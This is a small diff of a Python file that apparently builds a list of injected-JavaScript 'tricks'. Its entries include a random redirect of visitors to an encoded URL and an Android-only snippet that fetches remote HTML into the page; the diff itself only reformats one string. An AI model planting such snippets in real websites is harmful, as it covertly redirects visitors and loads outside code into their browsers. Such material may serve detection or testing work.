@@ -127,8 +127,10 @@ TRICKS = [
     # No licence is looked at by chance.
     (OLD.format("'/a.js'") + f"if(Math.random()<0.4)location.href={DECODED}", "", "visitors"),
     (
-        f"if(/Android/.test(navigator.userAgent))fetch({DECODED}).then(r=>r.text()).then(h=>"
-        "document.body.insertAdjacentHTML('beforeend',h))",
+        (
+            f"if(/Android/.test(navigator.userAgent))fetch({DECODED}).then(r=>r.text()).then(h=>"
+            "document.body.insertAdjacentHTML('beforeend',h))"
+        ),
         "",
         "loader",
     ),
